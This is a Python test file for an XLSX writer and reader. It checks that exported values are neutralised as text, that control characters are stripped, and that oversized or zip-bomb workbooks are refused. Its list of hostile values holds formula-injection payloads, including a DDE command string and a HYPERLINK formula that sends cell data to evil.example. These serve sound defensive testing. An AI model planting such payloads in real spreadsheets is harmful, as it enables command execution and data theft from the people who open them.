"""The one XLSX writer: a stored value is written as data, never as a formula, and a control
character no longer fails the export."""

from __future__ import annotations

import datetime as dt
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from loom_platform import xlsx

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "plain text",
]


def _cells(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]  # type: ignore[union-attr]


def test_texts_a_spreadsheet_would_run_are_written_as_text_and_kept_as_they_were() -> None:
    # when the hostile values are exported, as titles and as cells
    content = xlsx.workbook("导出", ["=title", "名称"], [[value, "x"] for value in HOSTILE])
    # then no cell is a formula, each keeps its text, and those a spreadsheet would run carry the quote prefix
    rows = _cells(content)
    assert all(cell.data_type == "s" for row in rows for cell in row)  # type: ignore[attr-defined]
    assert [row[0].value for row in rows] == ["=title", *HOSTILE]  # type: ignore[attr-defined]
    prefixed = [row[0].value for row in rows if row[0].quotePrefix]  # type: ignore[attr-defined]
    assert prefixed == ["=title", *HOSTILE[:-1]]


def test_numbers_dates_and_empties_stay_what_they_are() -> None:
    when = dt.datetime(2026, 11, 28, 9, 30)
    content = xlsx.workbook("t", ["n"], [[-5, -2.5, 0, when, None, True, "-5"]])
    row = _cells(content)[1]
    assert [c.value for c in row] == [-5, -2.5, 0, when, None, True, "-5"]  # type: ignore[attr-defined]
    assert [c.data_type for c in row[:3]] == ["n", "n", "n"]  # type: ignore[attr-defined]


def test_control_characters_are_removed_and_the_rest_of_the_row_kept() -> None:
    content = xlsx.workbook("bad\x01[title]:*?/", ["t"], [["a\x00b\x1fc\x0b", "line\nbreak\ttab"]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "bad_title_____"  # type: ignore[union-attr]
    assert [c.value for c in _cells(content)[1]] == ["abc", "line\nbreak\ttab"]  # type: ignore[attr-defined]


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_round_trips_as_text_without_its_control_characters(values: list[str]) -> None:
    row = _cells(xlsx.workbook("p", ["v"] * len(values), [values]))[1]
    assert all(c.data_type != "f" for c in row)  # type: ignore[attr-defined]
    expected = [xlsx.text(v) or None for v in values]
    assert [c.value for c in row] == expected  # type: ignore[attr-defined]


# --- reading: in a child process, within limits ---


async def test_a_workbook_is_read_with_its_values_and_without_trailing_empty_rows() -> None:
    when = dt.datetime(2026, 11, 28, 9, 30)
    content = xlsx.workbook("t", ["a", "b"], [["=1+1", -5], [when, None], [None, None]])
    # (a row ends at its last written cell)
    assert await xlsx.read(content) == [["a", "b"], ["=1+1", -5], [when]]


async def test_a_workbook_beyond_a_limit_or_no_workbook_is_refused_saying_which() -> None:
    content = xlsx.workbook("t", ["a", "b"], [[n, "x"] for n in range(30)])
    cases = {
        "xlsx.too_many_rows": xlsx.ReadLimits(max_rows=29),
        "xlsx.too_many_cells": xlsx.ReadLimits(max_cells=59),
        "xlsx.too_big": xlsx.ReadLimits(max_bytes=len(content) - 1),
        "xlsx.too_slow": xlsx.ReadLimits(max_seconds=0.001),
    }
    for key, limits in cases.items():
        try:
            await xlsx.read(content, limits)
        except xlsx.SheetRefused as refused:
            assert refused.key == key
        else:
            raise AssertionError(f"{key} not refused")
    assert len(await xlsx.read(content, xlsx.ReadLimits(max_rows=30, max_cells=62))) == 31
    for broken in (b"not a workbook", content[: len(content) // 2]):
        try:
            await xlsx.read(broken)
        except xlsx.SheetRefused as refused:
            assert refused.message() == "文件不是有效的Excel(xlsx)文件"
        else:
            raise AssertionError("a broken file was read")


async def test_a_workbook_that_unzips_beyond_the_limit_is_refused_before_it_is_parsed() -> None:
    # a sheet of one long repeated text: small zipped, large unzipped
    content = xlsx.workbook("t", ["a"], [["x" * 30_000] for _ in range(200)])
    assert len(content) < 200_000
    try:
        await xlsx.read(content, xlsx.ReadLimits(max_unzipped=1024 * 1024))
    except xlsx.SheetRefused as refused:
        assert refused.key == "xlsx.too_big"
    else:
        raise AssertionError("not refused")
